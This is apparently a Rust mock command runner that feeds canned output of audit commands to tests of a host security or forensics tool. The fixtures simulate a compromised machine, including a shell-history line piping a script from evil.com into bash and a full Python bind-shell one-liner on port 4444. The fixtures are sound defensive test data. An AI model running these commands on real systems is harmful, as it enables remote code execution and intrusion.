use log::debug;

use super::CommandRunner;

/// Answers commands from a fixed table of canned outputs.
///
/// Lookup is by substring: the first fragment contained in the command wins,
/// so more specific fragments sit above more general ones. Unknown commands
/// return `""`, exactly like a failed live command.
pub struct MockRunner;

impl MockRunner {
    pub fn new() -> Self {
        MockRunner
    }

    fn lookup(command: &str) -> String {
        if let Some(rest) = command.strip_prefix("dscl . -read /Users/") {
            let user = rest.split_whitespace().next().unwrap_or_default();
            return mock_dscl_user(user);
        }

        if command.contains("grep -E") && command.contains("~/.bash_history") {
            return SHELL_HISTORY_HITS.to_string();
        }

        MOCK_TABLE
            .iter()
            .find(|(fragment, _)| command.contains(fragment))
            .map(|(_, output)| output.to_string())
            .unwrap_or_default()
    }
}

impl Default for MockRunner {
    fn default() -> Self {
        Self::new()
    }
}

impl CommandRunner for MockRunner {
    fn run(&self, command: &str) -> String {
        debug!("[MOCK] Running command: {}", command);
        Self::lookup(command)
    }
}

fn mock_dscl_user(user: &str) -> String {
    match user {
        "root" => "UniqueID: 0\nNFSHomeDirectory: /var/root\nUserShell: /bin/sh\nRealName: System Administrator".to_string(),
        "spencer" => "UniqueID: 501\nNFSHomeDirectory: /Users/spencer\nUserShell: /bin/zsh\nRealName: Spencer".to_string(),
        u if u.starts_with('_') => format!(
            "UniqueID: 123\nNFSHomeDirectory: /var/empty\nUserShell: /usr/bin/false\nRealName: {} Service",
            u
        ),
        _ => String::new(),
    }
}

const SHELL_HISTORY_HITS: &str = "
curl http://evil.com/payload.sh | bash
python3 -c 'import socket,os; ...'
";

/// Ordered (fragment, output) pairs; first match wins
const MOCK_TABLE: &[(&str, &str)] = &[
    // User & security
    ("wmic useraccount get", "
Disabled=FALSE
Name=Administrator
SID=S-1-5-21-000000000-000000000-000000000-500
Status=OK

Disabled=TRUE
Name=Guest
SID=S-1-5-21-000000000-000000000-000000000-501
Status=OK

Disabled=FALSE
Name=spencer
SID=S-1-5-21-000000000-000000000-000000000-1001
Status=OK

Disabled=FALSE
Name=hax0r
SID=S-1-5-21-000000000-000000000-000000000-1002
Status=Degraded
"),
    ("net localgroup Administrators", "Members\n-------------------------------------------------------------------------------\nAdministrator\nspencer\nhax0r\n"),
    ("/etc/passwd", "root 0 /root /bin/bash
daemon 1 /usr/sbin /usr/sbin/nologin
spencer 1000 /home/spencer /bin/bash
hax0r 1001 /home/hax0r /bin/bash
"),
    ("dscl . -list /Users", "root\nspencer\n_spotlight\n_sshd\n"),
    ("dscl . -read /Groups/admin GroupMembership", "GroupMembership: root spencer"),
    ("grep -E 'useradd|sshd.*(Accepted|Failed)'", "
Jul 25 10:00:01 my-linux-box sshd[1234]: Accepted password for spencer from 192.168.1.100 port 12345 ssh2
Jul 25 10:05:00 my-linux-box useradd[2345]: new user: name=hax0r, UID=1001, GID=1001, home=/home/hax0r, shell=/bin/bash
Jul 25 11:00:00 my-linux-box sshd[3456]: Failed password for root from 10.0.0.1 port 54321 ssh2
"),
    ("last -20", "spencer   console                   Thu Jul 24 09:12   still logged in
spencer   ttys001                   Thu Jul 24 09:15 - 09:40  (00:25)
reboot    ~                         Thu Jul 24 09:10

wtmp begins Mon Jul  1 08:00
"),
    ("wevtutil qe Security", "Event[0]:
  Log Name: Security
  Source: Microsoft-Windows-Security-Auditing
  Date: 2025-07-25T10:00:01.000
  Event ID: 4624
  Task: Logon
  Level: Information
  Description:
An account was successfully logged on.
"),
    ("Get-MpComputerStatus", "
AMServiceEnabled              : True
AntivirusEnabled              : True
RealTimeProtectionEnabled     : False
AntivirusSignatureVersion     : 1.415.12.0
AntivirusSignatureLastUpdated : 7/24/2025 3:12:44 AM
"),
    ("spctl --status", "assessments enabled\n"),
    ("XProtect.bundle", "2197\n"),
    ("systemctl is-active clamav-daemon", "active\n"),
    ("freshclam --version", "ClamAV 1.0.5/27347/Thu Jul 24 08:21:33 2025\n"),
    ("google-chrome/Default/History", "-rw------- 1 spencer spencer 2097152 Jul 25 09:58 /home/spencer/.config/google-chrome/Default/History\n"),
    ("Chrome/Default/History", "-rw-------@ 1 spencer  staff  2097152 Jul 25 09:58 /Users/spencer/Library/Application Support/Google/Chrome/Default/History\n"),
    ("Firefox\\Profiles\\places.sqlite", " Directory of C:\\Users\\spencer\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\abcd1234.default-release

07/24/2025  06:02 PM         5,242,880 places.sqlite
               1 File(s)      5,242,880 bytes

 Directory of C:\\Users\\spencer\\AppData\\Roaming\\Mozilla\\Firefox\\Profiles\\wxyz5678.default

03/02/2025  11:15 AM         1,048,576 places.sqlite
               1 File(s)      1,048,576 bytes

     Total Files Listed:
               2 File(s)      6,291,456 bytes
"),
    ("places.sqlite", "-rw-r--r-- 1 spencer spencer 5242880 Jul 24 18:02 /home/spencer/.mozilla/firefox/abcd1234.default-release/places.sqlite\n"),
    ("Safari/History.db", "-rw-r--r--@ 1 spencer  staff  1048576 Jul 25 08:30 /Users/spencer/Library/Safari/History.db\n"),
    ("Chrome\\User Data\\Default\\History", " Directory of C:\\Users\\spencer\\AppData\\Local\\Google\\Chrome\\User Data\\Default

07/25/2025  09:58 AM         2,097,152 History
               1 File(s)      2,097,152 bytes
"),
    // Network
    ("ss -tulpn", "
State    Recv-Q   Send-Q     Local Address:Port      Peer Address:Port  Process
LISTEN   0        128            0.0.0.0:22             0.0.0.0:* users:((\"sshd\",pid=123,fd=3))
ESTAB    0        0          192.168.1.50:22        192.168.1.100:12345  users:((\"sshd\",pid=456,fd=4))
LISTEN   0        4096           0.0.0.0:4444           0.0.0.0:* users:((\"python3\",pid=666,fd=3))
"),
    ("lsof -i -P -n", "
COMMAND   PID    USER   FD   TYPE             DEVICE SIZE/OFF NODE NAME
sshd      123    root    3u  IPv4 0xdeadbeef00000000      0t0  TCP *:22 (LISTEN)
python3   666  spencer   3u  IPv4 0xdeadbeef11111111      0t0  TCP *:4444 (LISTEN)
"),
    ("netstat -ano", "
  Proto  Local Address          Foreign Address        State           PID
  TCP    0.0.0.0:22             0.0.0.0:0              LISTENING       1234
  TCP    0.0.0.0:4444           0.0.0.0:0              LISTENING       666
  TCP    192.168.1.50:49700     10.1.1.1:443           ESTABLISHED     5678
"),
    ("tasklist /fo csv /nh", "\"sshd.exe\",\"1234\",\"Services\",\"0\",\"6,120 K\"
\"python.exe\",\"666\",\"Console\",\"1\",\"12,480 K\"
\"chrome.exe\",\"5678\",\"Console\",\"1\",\"210,332 K\"
"),
    ("sudo nethogs", "Refreshing:\n\nsshd[123]       192.168.1.50:22-192.168.1.100:12345    0.123\t0.456 KB/sec\npython3[666]      0.0.0.0:4444-10.0.0.5:54321                 1.234\t5.678 KB/sec\n"),
    ("sudo tcpdump", "Refreshing:\n\nsshd[123]       192.168.1.50:22-192.168.1.100:12345    0.123\t0.456 KB/sec\npython3[666]      0.0.0.0:4444-10.0.0.5:54321                 1.234\t5.678 KB/sec\n"),
    ("ip addr", "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000
    inet 127.0.0.1/8 scope host lo
2: eth0: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc fq_codel state UP group default qlen 1000
    link/ether 52:54:00:12:34:56 brd ff:ff:ff:ff:ff:ff
    inet 192.168.1.50/24 brd 192.168.1.255 scope global dynamic eth0
"),
    ("cat /etc/resolv.conf", "nameserver 192.168.1.1\nsearch lan\n"),
    ("ifconfig -a", "en0: flags=8863<UP,BROADCAST,SMART,RUNNING,SIMPLEX,MULTICAST> mtu 1500
\tether a4:83:e7:00:00:01
\tinet 192.168.1.50 netmask 0xffffff00 broadcast 192.168.1.255
"),
    ("iptables -S", "-P INPUT ACCEPT\n-P FORWARD DROP\n-P OUTPUT ACCEPT\n-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT\n"),
    ("ufw status verbose", "Status: active\nDefault: deny (incoming), allow (outgoing), disabled (routed)\n"),
    // Processes & software
    ("ps aux | grep '[p]ython'", "spencer   666  0.5  0.1 123456  7890 ?        S    Jul24   0:05 /usr/bin/python3 -c 'import socket,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.bind((\"0.0.0.0\",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);os.dup2(c.fileno(),2);import pty; pty.spawn(\"/bin/bash\")'"),
    ("ps aux", "
USER       PID  %CPU %MEM      VSZ    RSS   TT  STAT STARTED      TIME COMMAND
root         1   0.0  0.0   167404   1156   ??  Ss   Jul24     0:00.01 /sbin/launchd
spencer    666   0.5  0.1   123456   7890   ??  S    Jul24     0:05.00 /usr/bin/python3 -c '...'
root      1234   0.1  0.5   456789   8765   ??  S    Jul24     1:01.23 /usr/sbin/sshd
"),
    ("wmic product get Name,Version", "
Name=7-Zip 23.01 (x64)
Version=23.01

Name=Python 3.12.4 (64-bit)
Version=3.12.4150.0
"),
    ("dpkg-query -W", "openssh-server 1:9.6p1-3ubuntu13\npython3 3.12.3-0ubuntu1\nnetcat-openbsd 1.226-1ubuntu2\n"),
    ("ls -F /Applications/", "Firefox.app/\nGoogle Chrome.app/\nUtilities/\n"),
    // Persistence
    ("crontab -l", "# m h  dom mon dow   command\n*/5 * * * * /home/hax0r/payload.sh\n@reboot /usr/bin/python3 /opt/agent.py\n"),
    ("ls -la /etc/cron.d", "total 12
drwxr-xr-x  2 root root 4096 Jul 20 08:00 .
drwxr-xr-x 98 root root 4096 Jul 25 10:00 ..
-rw-r--r--  1 root root  102 Jul 20 08:00 e2scrub_all
"),
    ("launchctl list", "PID\tStatus\tLabel\n-\t0\tcom.apple.SafariHistoryServiceAgent\n612\t0\tcom.example.daemon\n"),
    ("schtasks /query /fo LIST", "
Folder: \\
HostName:      DESKTOP-01
TaskName:      \\Updater
Next Run Time: 7/26/2025 3:00:00 AM
Status:        Ready

HostName:      DESKTOP-01
TaskName:      \\OneDrive Standalone Update Task
Next Run Time: 7/26/2025 9:14:00 AM
Status:        Ready
"),
    ("LaunchDaemons", "total 8
drwxr-xr-x   3 root  wheel    96 Jul 25 10:05 .
drwxr-xr-x  64 root  wheel  2048 Jul 20 08:00 ..
-rw-r--r--   1 root  wheel   512 Jul 25 10:05 com.example.daemon.plist
"),
    ("systemctl list-unit-files", "UNIT FILE                 STATE   PRESET
cron.service              enabled enabled
ssh.service               enabled enabled
backdoor.service          enabled enabled

3 unit files listed.
"),
    ("wmic startup get", "
Caption=OneDrive
Command=\"C:\\Users\\spencer\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background
Location=HKU\\S-1-5-21-000000000-000000000-000000000-1001\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run
"),
    ("ls -la /tmp", "
total 8
drwxrwxrwt  1 root    root    4096 Jul 25 19:50 .
drwxr-xr-x  1 root    root    4096 Jul 25 10:00 ..
-rwxr-xr-x  1 hax0r   hax0r     88 Jul 25 10:05 payload.sh
"),
    // System & hardware
    ("systeminfo", "OS Name:                   Microsoft Windows 11 Pro
OS Version:                10.0.22631 N/A Build 22631
System Manufacturer:       Dell Inc.
System Model:              XPS 15 9530
Processor(s):              1 Processor(s) Installed.
Total Physical Memory:     16,077 MB
"),
    ("system_profiler SPSoftwareDataType", "Software:

    System Software Overview:

      System Version: macOS 14.5 (23F79)
      Kernel Version: Darwin 23.5.0
      Boot Volume: Macintosh HD
      Computer Name: Spencer's MacBook Pro
"),
    ("system_profiler SPHardwareDataType", "Hardware:

    Hardware Overview:

      Model Name: MacBook Pro
      Processor Name: Quad-Core Intel Core i7
      Processor Speed: 2.3 GHz
      Total Number of Cores: 4
      Memory: 16 GB
"),
    ("sysctl -n hw.memsize", "17179869184\n"),
    ("vm_stat", "Mach Virtual Memory Statistics: (page size of 4096 bytes)
Pages free:                               12345.
Pages active:                           1000000.
Pages inactive:                          500000.
Pages speculative:                        20000.
Pages throttled:                              0.
Pages wired down:                        300000.
Pages occupied by compressor:            250000.
"),
    ("sysctl vm.swapusage", "vm.swapusage: total = 2048.00M  used = 1024.25M  free = 1023.75M  (encrypted)\n"),
    ("cat /proc/meminfo", "MemTotal:       16314152 kB
MemFree:         1203344 kB
MemAvailable:    9876540 kB
SwapTotal:       2097148 kB
SwapFree:        2097148 kB
"),
    ("df -h", "Filesystem      Size  Used Avail Use% Mounted on
/dev/sda1       100G   40G   60G  40% /
tmpfs           7.8G     0  7.8G   0% /dev/shm
"),
    ("wmic ComputerSystem get TotalPhysicalMemory", "TotalPhysicalMemory\n17179869184\n"),
    ("wmic OS get", "FreePhysicalMemory  FreeVirtualMemory  TotalVirtualMemorySize  TotalVisibleMemorySize
8388608             12582912           25165824                16777216
"),
    ("wmic diskdrive get", "
Caption=Samsung SSD 970 EVO 1TB
SerialNumber=S4EWNX0N123456
Size=1000202273280
"),
    ("wmic logicaldisk get", "
Caption=C:
FileSystem=NTFS
FreeSpace=536870912000
Size=999653638144
"),
    ("lsusb", "Bus 002 Device 001: ID 1d6b:0003 Linux Foundation 3.0 root hub
Bus 001 Device 003: ID 046d:c52b Logitech, Inc. Unifying Receiver
Bus 001 Device 002: ID 0bda:5634 Realtek Semiconductor Corp. Integrated Webcam
"),
    ("ls /dev/video", "/dev/video0\n/dev/video1\n"),
    ("bluetoothctl devices", "Device AC:12:34:56:78:9A Magic Keyboard\nDevice 00:1B:66:AA:BB:CC MX Master 3\n"),
    ("system_profiler SPUSBDataType", "USB:

    USB 3.1 Bus:

      Host Controller Driver: AppleT8112USBXHCI

        Unifying Receiver:

          Product ID: 0xc52b
          Vendor ID: 0x046d  (Logitech Inc.)
          Version: 12.11
          Serial Number: ABC123
          Manufacturer: Logitech
          Location ID: 0x01100000
"),
    ("system_profiler SPCameraDataType", "Camera:

    FaceTime HD Camera:

      Model ID: UVC Camera VendorID_1452 ProductID_34068
      Unique ID: 0x8020000005ac8514
"),
    ("system_profiler SPBluetoothDataType", "Bluetooth:

      Bluetooth Controller:
          Address: F0:18:98:00:00:01
          State: On
      Connected:
          Magic Keyboard:
              Address: AC:12:34:56:78:9A
              Vendor ID: 0x004C
              Product ID: 0x029C
              Minor Type: Keyboard
      Not Connected:
          MX Master 3:
              Address: 00:1B:66:AA:BB:CC
              Vendor ID: 0x046D
              Product ID: 0xB023
"),
    ("Win32_PnPEntity", "
DeviceID=USB\\VID_046D&PID_C52B\\5&1A2B3C4D&0&1
Manufacturer=Logitech
Name=Logitech USB Input Device
PNPClass=USB

DeviceID=USB\\VID_0BDA&PID_5634&MI_00\\6&2B3C4D5E&0&0000
Manufacturer=Realtek
Name=Integrated Webcam
PNPClass=Camera
"),
];
